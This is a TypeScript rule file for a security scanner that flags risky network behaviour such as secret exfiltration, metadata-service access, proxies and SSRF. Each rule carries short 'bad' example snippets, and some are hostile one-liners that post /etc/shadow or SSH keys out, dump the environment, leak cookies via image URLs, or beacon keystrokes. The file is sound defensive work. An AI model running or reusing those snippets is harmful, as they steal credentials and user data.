import type { Effect } from '../effect.ts'
import { origin, type Value } from '../model.ts'
import { hostOf, isDropHost, isMetadataHost } from '../paths.ts'
import type { Rule } from '../rule.ts'
import { comesFrom, sketch, startOf } from '../values.ts'
import {
  code,
  everything,
  everywhere,
  isFalse,
  isFixed,
  isRequested,
  names,
  option,
  python,
  says,
  scripts,
} from './ask.ts'

const host = (effect: Effect): string => hostOf(startOf(effect.target)) ?? startOf(effect.target)
const sends = (effect: Effect): boolean =>
  effect.payload !== undefined || /\.(post|put|patch|sendto|sendmail|send)$/i.test(effect.call?.name ?? '')
const private_ =
  /^(127\.|10\.|192\.168\.|172\.(1[6-9]|2\d|3[01])\.|169\.254\.|localhost$|0\.0\.0\.0|\[?::1|\[?f[cd]|.*\.(internal|local|corp|lan)$)/i

/** A variable, or a text with one in it, whose name says that it holds a secret. */
function isTelling(value: Value): boolean {
  if (value.kind === 'joined') return value.parts.some(part => typeof part !== 'string' && isTelling(part))
  return (
    value.kind === 'thing' &&
    /(^|[._])(passw(or)?d|passwd|secret|api_?key|private_?key|ssn|credit_?card|card_?number)$/i.test(value.name)
  )
}

const programFile = /\.(pyw?|sh|bash|[cm]?js|ps1|bat|cmd|exe|msi|dll|so|dylib|jar|rb|pl|php|deb|rpm|apk|whl)$/i

export const networkRules: readonly Rule[] = [
  {
    id: 'network/metadata-service',
    languages: everywhere,
    type: 'secret',
    severity: 'critical',
    cwe: 'CWE-918',
    description: 'Asks the cloud machine for its own credentials.',
    recommendation: 'Use credentials that were granted to this program.',
    implies: ['connect', 'secrets'],
    match: { on: 'effect', kinds: ['connect'], when: effect => isMetadataHost(host(effect)) },
    examples: {
      bad: ["import requests\nrequests.get('http://169.254.169.254/latest/meta-data/')"],
      good: ["import requests\nrequests.get('https://api.example.org/')"],
    },
  },
  {
    id: 'network/drop-host',
    languages: everywhere,
    type: 'exfiltration',
    severity: 'high',
    cwe: 'CWE-200',
    description: 'Connects to a service where data is dropped or picked up without a trace.',
    recommendation: 'Use a host that your organisation knows.',
    implies: ['connect'],
    match: { on: 'effect', kinds: ['connect'], when: effect => isDropHost(host(effect)) },
    examples: {
      bad: ["import requests\nrequests.post('https://webhook.site/x', data=d)"],
      good: ["import requests\nrequests.get('https://data.europa.eu/x.csv')"],
    },
  },
  {
    id: 'network/secret-leaves',
    languages: everywhere,
    type: 'exfiltration',
    severity: 'critical',
    cwe: 'CWE-200',
    description: 'Sends the content of a secret over the network.',
    recommendation: 'Do not send secrets; grant access to the one who needs it.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => comesFrom(effect.payload, origin.secret) || comesFrom(effect.target, origin.secret),
    },
    examples: {
      bad: [
        "import requests\nrequests.post('https://x.org', data=open('/etc/shadow').read())",
        {
          language: 'javascript',
          code: "const k = require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa'); fetch('https://x.org', { method: 'POST', body: k })",
        },
      ],
      good: ["import requests\nrequests.post('https://x.org', data=open('report.csv').read())"],
    },
  },
  {
    id: 'network/data-leaves',
    languages: everywhere,
    type: 'exfiltration',
    severity: 'medium',
    cwe: 'CWE-201',
    description: 'Sends data out.',
    recommendation: 'Check what is sent and to whom.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => {
        const { payload } = effect
        // A name that nobody has is asked for to tell its owner what it says.
        if (
          /^(dns|socket)\b/.test(effect.call?.name ?? '') &&
          effect.target.kind === 'joined' &&
          comesFrom(effect.target, origin.file | origin.system)
        )
          return {
            severity: 'high',
            message: 'Puts facts about this machine or its files into a name that it asks for.',
          }
        if (comesFrom(effect.target, origin.file | origin.system | origin.environment) && host(effect) !== '')
          return { severity: 'high', message: 'Puts facts about this machine or its files into an address.' }
        if (comesFrom(payload, origin.environment | origin.system))
          return { severity: 'high', message: 'Sends facts about this machine out.' }
        if (comesFrom(payload, origin.file)) return { severity: 'high', message: 'Sends the content of files out.' }
        return sends(effect)
      },
    },
    examples: {
      bad: [
        "import requests\nrequests.post('https://x.org', json={'a': 1})",
        "import requests, os\nrequests.post('https://x.org', json=dict(os.environ))",
        { language: 'javascript', code: "require('dns').lookup(require('os').hostname() + '.x.org', f)" },
        {
          language: 'javascript',
          code: "fetch('https://x.org/?h=' + encodeURIComponent(require('os').hostname()))",
        },
      ],
      good: ["import requests\nrequests.get('https://x.org')"],
    },
  },
  {
    id: 'network/downloaded-program',
    languages: code,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-494',
    description: 'Saves a program or a script that it fetches from the network, ready to be run.',
    recommendation: 'Download it by hand, read it, and keep the version that was read in the workspace.',
    implies: ['connect', 'write'],
    match: {
      on: 'program',
      find: ({ program, effects }) => {
        const saves = effects.some(({ kind, target }) => kind === 'write' && programFile.test(startOf(target)))
        return program.calls
          .filter(({ name, args }) =>
            name.endsWith('urlretrieve')
              ? programFile.test(startOf(args[1]))
              : saves &&
                /\.(write|writelines|write_text|write_bytes|writeFile|writeFileSync)$/.test(name) &&
                args.some(value => comesFrom(value, origin.download)),
          )
          .map(at => ({ at }))
      },
    },
    examples: {
      bad: [
        "import requests\nr = requests.get('https://x.org/a.py')\nwith open('a.py', 'w') as f:\n    f.write(r.text)",
        "import urllib.request\nurllib.request.urlretrieve('https://x.org/a', 'a.sh')",
      ],
      good: [
        "import requests\nr = requests.get('https://x.org/a.csv')\nwith open('a.csv', 'w') as f:\n    f.write(r.text)",
      ],
    },
  },
  {
    id: 'network/requested-host',
    languages: everywhere,
    type: 'network',
    severity: 'high',
    cwe: 'CWE-918',
    description:
      'Connects to an address that comes from a request, so that the sender chooses what this machine reaches.',
    recommendation: 'Choose among addresses that the program knows.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => {
        if (!isRequested(effect.target)) return false
        const start = startOf(effect.target)
        if (hostOf(`${start}/`) === null) return true
        // With `..` in it a path reaches every service of that host; a query stays a query.
        return start.includes('?')
          ? false
          : { severity: 'medium', message: 'The path of the address comes from a request.' }
      },
    },
    examples: {
      bad: [
        "import requests\nfrom flask import request\nrequests.get(request.args['url'])",
        "import requests\nfrom flask import request\nrequests.get('https://api.example.org/users/' + request.args['id'])",
        { language: 'javascript', code: 'app.get("/", (req, res) => { axios.get(req.query.url) })' },
      ],
      good: [
        "import requests\nfrom flask import request\nrequests.get('https://api.example.org/?q=' + request.args['q'])",
      ],
    },
  },
  {
    id: 'network/unknown-host',
    languages: code,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-918',
    description: 'Connects to an address that is not known before the program runs.',
    recommendation: 'Write the host into the code, so that a reviewer sees it.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: (effect, { program }) => {
        if (isRequested(effect.target) || host(effect) !== '') return false
        if (comesFrom(effect.target, origin.input | origin.environment | origin.download | origin.decoded)) return true
        const { target } = effect
        if (target.kind === 'text' || !comesFrom(target, origin.parameter)) return false
        // A parameter that stands for one address, unless somebody says another.
        if (
          target.kind === 'thing' &&
          program.assignments.some(
            ({ how, target: to, value }) => how === 'default' && to === target.name && /^https?:/.test(startOf(value)),
          )
        )
          return { severity: 'low' }
        // `urlopen` follows `file:` as well, so that an open address reads files too.
        return { severity: /urlopen|urlretrieve/.test(effect.call?.name ?? '') ? 'medium' : 'low' }
      },
    },
    examples: {
      bad: ['import requests, sys\nrequests.get(sys.argv[1])'],
      good: [
        "import requests\nrequests.get('https://x.org')",
        "import urllib.request\ndef load(url='https://x.org/a.csv'):\n    urllib.request.urlretrieve(url, 'a.csv')",
      ],
    },
  },
  {
    id: 'network/bare-address',
    languages: everywhere,
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-923',
    description: 'Connects to a bare address instead of a name.',
    recommendation: 'Use the name of a host that is known.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => /^\d{1,3}(\.\d{1,3}){3}$/.test(host(effect)) && !/^127\./.test(host(effect)),
    },
    examples: {
      bad: ["import requests\nrequests.get('http://203.0.113.7/x')"],
      good: ["import requests\nrequests.get('http://localhost:8000')"],
    },
  },
  {
    id: 'network/inside',
    languages: code,
    type: 'network',
    severity: 'low',
    cwe: 'CWE-918',
    description: 'Connects to a private address.',
    recommendation: 'Check that the sandbox is meant to reach it.',
    implies: ['connect'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: effect => private_.test(host(effect)) && !isMetadataHost(host(effect)),
    },
    examples: {
      bad: ["import requests\nrequests.get('http://localhost:8000')"],
      good: ["import requests\nrequests.get('https://example.org')"],
    },
  },
  {
    id: 'network/proxy',
    languages: ['python', 'javascript', 'typescript'],
    type: 'network',
    severity: 'medium',
    cwe: 'CWE-441',
    description: 'Sends its requests through a proxy of its own, past the one that checks them.',
    recommendation: 'Use the network that the sandbox grants.',
    implies: ['connect'],
    match: {
      on: 'call',
      names: [
        'requests.*',
        'httpx.*',
        'urllib.request.ProxyHandler',
        'urllib3.ProxyManager',
        'socks.set_default_proxy',
        'axios',
        'axios.get',
        'axios.post',
        'socks-proxy-agent.SocksProxyAgent',
        'https-proxy-agent.HttpsProxyAgent',
      ],
      when: call =>
        /Proxy|socks/.test(call.name) ||
        ['proxies', 'proxy'].some(name => option(call, name) !== undefined && !isFalse(option(call, name))),
    },
    examples: {
      bad: ["import requests\nrequests.get('https://x.org', proxies={'http': 'http://10.0.0.1:80'})"],
      good: ["import requests\nrequests.get('https://x.org')"],
    },
  },
  {
    id: 'network/request',
    languages: everywhere,
    type: 'network',
    severity: 'low',
    cwe: 'CWE-923',
    description: 'Fetches something from the network.',
    recommendation: 'Grant the host, or put the data into the workspace.',
    implies: ['connect'],
    match: { on: 'effect', kinds: ['connect'], when: () => true },
    examples: {
      bad: ["import pandas as pd\npd.read_csv('https://example.org/a.csv')"],
      good: ["import pandas as pd\npd.read_csv('a.csv')"],
    },
  },
  {
    id: 'network/page-leaves',
    languages: scripts,
    type: 'exfiltration',
    severity: 'high',
    cwe: 'CWE-359',
    description: 'Sends what a visitor types or is known by to an address, in the address of a picture or a request.',
    recommendation: 'Remove it.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'assignment',
      about: target => /(^|\.)(src|href|action)$/.test(target),
      when: ({ value, how }) =>
        how === 'assign' &&
        value.kind === 'joined' &&
        says(value, /^(https?:)?\/\//) &&
        (comesFrom(value, origin.secret) ||
          value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|keyCode|target\.value)$/))),
    },
    examples: {
      bad: [
        "new Image().src = 'https://x.org/?' + document.cookie",
        "addEventListener('keydown', e => { image.src = 'https://x.org/?' + e.key })",
      ],
      good: ["image.src = 'https://x.org/' + name + '.png'", "link.href = '/items/' + e.target.value"],
    },
  },
  {
    id: 'network/typed-leaves',
    languages: scripts,
    type: 'exfiltration',
    severity: 'medium',
    cwe: 'CWE-359',
    description: 'Sends what a visitor types into a password field out.',
    recommendation: 'Let the form of the page send it, to the page it belongs to.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'effect',
      kinds: ['connect'],
      when: ({ target, payload }, { program }) =>
        /type=["']?password|keydown|keypress|keyup/.test(program.source) &&
        [target, payload].some(
          value =>
            value?.kind === 'joined' &&
            value.parts.some(part => typeof part !== 'string' && names(part, /(^|\.)(key|target\.value|value)$/)),
        ),
    },
    examples: {
      bad: [
        "document.querySelector('input[type=password]').onchange = e => fetch('https://x.org/?p=' + e.target.value)",
      ],
      good: ["search.onchange = e => fetch('/search?q=' + e.target.value)"],
    },
  },
  {
    id: 'network/open-password',
    languages: python,
    type: 'secret',
    severity: 'medium',
    cwe: 'CWE-319',
    description: 'Sends a name and a password where anybody in between can read them.',
    recommendation: 'Use `https:`.',
    implies: ['connect', 'secrets'],
    match: {
      on: 'call',
      names: ['requests.get', 'requests.post', 'requests.put', 'requests.request', 'httpx.get', 'httpx.post'],
      when: call =>
        call.named.has('auth') && call.args.some(value => says(value, /^http:\/\/(?!localhost|127\.|\[?::1)/i)),
    },
    examples: {
      bad: ["import requests\nrequests.get('http://example.org/a', auth=(user, word))"],
      good: ["import requests\nrequests.get('https://example.org/a', auth=(user, word))"],
    },
  },
  {
    id: 'network/secret-printed',
    languages: code,
    type: 'exfiltration',
    severity: 'medium',
    cwe: 'CWE-532',
    description: 'Prints or logs a secret.',
    recommendation: 'Keep secrets out of output and logs.',
    implies: ['secrets'],
    match: {
      on: 'call',
      names: [
        'print',
        'console.log',
        'console.info',
        'console.error',
        'console.debug',
        'logging.info',
        'logging.debug',
        'logging.warning',
        'logging.error',
        'logger.info',
        'logger.debug',
        '*.info',
        '*.debug',
        'sys.stdout.write',
        'process.stdout.write',
      ],
      when: call => {
        if (everything(call).some(value => comesFrom(value, origin.secret) && !isFixed(value))) return true
        // A variable that is called a password is one; printing it is what password exercises do, logging it is not.
        return (
          /^(logging|logger|log|console\.(info|error|debug))\b|\.(info|debug)$/.test(call.name) &&
          call.args.some(isTelling)
        )
      },
    },
    examples: {
      bad: [
        "import os\nprint(os.environ['AWS_SECRET_ACCESS_KEY'])",
        { language: 'javascript', code: 'console.log(process.env.API_KEY)' },
      ],
      good: ["import os\nprint(os.environ['LANG'])"],
    },
  },
  {
    id: 'network/environment-dumped',
    languages: code,
    type: 'secret',
    severity: 'high',
    cwe: 'CWE-526',
    description: 'Takes the whole environment, where credentials are passed to programs.',
    recommendation: 'Read the one variable that is needed.',
    implies: ['secrets'],
    match: {
      on: 'call',
      names: [
        'print',
        'dict',
        'str',
        'list',
        'json.dumps',
        'json.dump',
        'pprint.pprint',
        'os.environ.items',
        'os.environ.copy',
        'os.environ.values',
        'console.log',
        'JSON.stringify',
        'Object.entries',
        'Object.keys',
        'Object.values',
        'Object.assign',
        'repr',
        'sorted',
        'os.environ.keys',
      ],
      when: call => {
        if (call.name === 'os.environ.copy') return { severity: 'low' }
        if (call.name.startsWith('os.environ.')) return true
        return call.args.some(
          value =>
            value.kind === 'thing' && /^(os\.environb?|process\.env|os\.environ\.(copy|items)\(\))$/.test(value.name),
        )
      },
    },
    examples: {
      bad: [
        'import os\nprint(os.environ)',
        { language: 'javascript', code: 'console.log(JSON.stringify(process.env))' },
      ],
      good: ["import os\nprint(os.environ.get('HOME'))"],
    },
  },
  {
    id: 'network/secret-variable',
    languages: code,
    type: 'secret',
    severity: 'medium',
    cwe: 'CWE-526',
    description: 'Reads a credential from the environment.',
    recommendation: 'Sandboxes get no secrets; grant access another way.',
    implies: ['secrets'],
    match: {
      on: 'program',
      find: ({ program }) =>
        program.assignments
          .filter(
            ({ value, how }) =>
              how === 'assign' &&
              comesFrom(value, origin.secret) &&
              comesFrom(value, origin.environment) &&
              sketch(value) === null,
          )
          .slice(0, 3)
          .map(({ start, end }) => ({ at: { start, end } })),
    },
    examples: {
      bad: ["import os\nkey = os.environ['AWS_SECRET_ACCESS_KEY']"],
      good: ["import os\nlang = os.environ['LANG']"],
    },
  },
]
